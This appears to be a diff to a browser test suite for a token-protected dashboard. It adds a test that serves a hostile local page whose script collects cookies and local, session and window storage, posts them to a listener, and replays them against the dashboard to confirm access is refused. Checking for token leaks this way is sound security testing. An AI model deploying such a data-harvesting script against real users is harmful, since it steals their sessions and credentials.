@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import gzip
 import re
+import threading
 from contextlib import closing
-from typing import Any
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import ClassVar
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+import requests
+from playwright.sync_api import Page, expect
 
 from tests.browser.complaints import Complaints
 from tests.browser.fixtures import OpenDashboard, OpenView
@@ -86,36 +91,111 @@ def expect_live(page: Page) -> None:
     expect(page.get_by_test_id("story")).to_contain_text("No election was found")
 
 
-@pytest.fixture
-def guarded_context(browser: Browser) -> Any:
-    """A browser that has not seen the token."""
-    context = browser.new_context()
-    yield context
-    context.close()
-
-
 @pytest.mark.proof
-def test_a_token_opens_the_page_once_and_then_a_cookie_does(
-    page_hosts: str, open_view: OpenView, open_dashboard: OpenDashboard, guarded_context: Any
+def test_the_address_with_the_token_opens_the_page_once_and_the_browser_keeps_it(
+    page_hosts: str, open_view: OpenView, open_dashboard: OpenDashboard, tmp_path: Path
 ) -> None:
+    """For a reload, another tab, actions, and what is saved."""
     dashboard = open_dashboard("--zookeeper", page_hosts, "--token", TOKEN)
-    stranger = guarded_context.new_page()
-    answer = stranger.goto(dashboard.url)
-    assert answer is not None
-    assert answer.status == 401
-    expect(stranger.locator("body")).to_contain_text(re.compile("token", re.IGNORECASE))
-    expect(stranger.get_by_test_id("stage")).to_have_count(0)
-
-    rest = Rest(dashboard.url)
-    view = open_view(rest, at=dashboard.printed_address)
-    assert TOKEN not in view.page.url
+    rest = Rest(dashboard.url, TOKEN)
+    view = open_view(rest, at=f"{dashboard.printed_address}#view=election")
+    assert view.page.url.startswith(f"{dashboard.url}/#view=election")
     view.at("start-1").click()
     expect(view.at("crown")).to_have_attribute("data-znode", re.compile(r"n_\d{10}$"))
-    (cookie,) = view.page.context.cookies()
-    assert cookie["httpOnly"]
-    assert cookie["sameSite"] in ("Lax", "Strict")
-    assert TOKEN not in cookie["value"]
-    assert view.run("() => document.cookie") == ""
     view.reload()
     expect(view.at("crown")).to_have_attribute("data-znode", re.compile(r"n_\d{10}$"))
+    other = view.page.context.new_page()
+    other.goto(dashboard.url)
+    expect(other.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
+    with other.expect_download() as download:
+        other.get_by_test_id("time-save").click()
+    assert re.fullmatch(r"handoff-\d+-\d+\.jsonl\.gz", download.value.suggested_filename)
+    saved = tmp_path / "saved"
+    download.value.save_as(saved)
+    assert b'"dashboard.started"' in gzip.decompress(saved.read_bytes())
+    other.close()
     rest.close()
+
+
+def test_a_page_without_the_token_says_what_it_needs(
+    pages: Pages, open_dashboard: OpenDashboard, fresh_hosts: str
+) -> None:
+    dashboard = open_dashboard("--zookeeper", fresh_hosts, "--token", TOKEN)
+    page = pages.open()
+    page.goto(dashboard.url)
+    needs = re.compile("This dashboard needs its token: open the address that it printed")
+    expect(page.locator("body")).to_contain_text(needs)
+    expect(page.get_by_test_id("stage")).to_have_count(0)
+    page.goto(dashboard.printed_address)
+    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
+    pages.end_test()
+
+
+TELLS_ALL = """<!doctype html><script>
+  const all = JSON.stringify({
+    cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage},
+    name: window.name, from: document.referrer, opener: String(window.opener),
+  });
+  fetch("/told", { method: "POST", body: all }).then(() => document.title = "told");
+</script>"""
+"""The page of another program on this host, which sends home whatever it can get hold of."""
+
+
+class Listening(BaseHTTPRequestHandler):
+    """Keeps what it is sent."""
+
+    heard: ClassVar[list[tuple[str, dict[str, str], str]]] = []
+
+    def do_GET(self) -> None:
+        self._keep("")
+
+    def do_POST(self) -> None:
+        self._keep(self.rfile.read(int(self.headers["Content-Length"])).decode())
+
+    def _keep(self, body: str) -> None:
+        self.heard.append((self.path, dict(self.headers.items()), body))
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(TELLS_ALL.encode())
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+def test_another_port_of_this_host_gets_nothing_that_opens_the_dashboard(
+    pages: Pages, open_dashboard: OpenDashboard, fresh_hosts: str
+) -> None:
+    """Whoever listens there hears what the browser sends, and sends it to the dashboard himself."""
+    dashboard = open_dashboard("--zookeeper", fresh_hosts, "--token", TOKEN)
+    page = pages.open()
+    page.goto(dashboard.printed_address)
+    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
+    heard = Listening.heard
+    with ThreadingHTTPServer(("127.0.0.1", 0), Listening) as other:
+        threading.Thread(target=other.serve_forever, daemon=True).start()
+        address = f"http://127.0.0.1:{other.server_address[1]}/"
+        page.evaluate("(address) => location.assign(address)", address)
+        expect(page).to_have_title("told")
+        beside = page.context.new_page()
+        beside.goto(address)
+        expect(beside).to_have_title("told")
+        other.shutdown()
+    page.goto(dashboard.url)
+    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
+    assert {path for path, *_ in heard} >= {"/", "/told"}
+    assert TOKEN not in str(heard)
+    assert TOKEN.encode().hex() not in str(heard)
+    for _, headers, body in heard:
+        mine = {name: value for name, value in headers.items() if not is_of_the_way(name)}
+        for place in ("api/v1/state", "socket.io/?EIO=4&transport=polling"):
+            for more in ({}, {"Authorization": f"Bearer {body}"}):
+                tried = {**mine, **more}
+                answer = requests.get(f"{dashboard.url}/{place}", headers=tried, timeout=30)
+                assert answer.status_code == 401, answer.text
+    pages.end_test()
+
+
+def is_of_the_way(name: str) -> bool:
+    """Whether who sends it on has a header of his own."""
+    return name.lower().startswith(("host", "origin", "referer", "sec-fetch", "content-"))
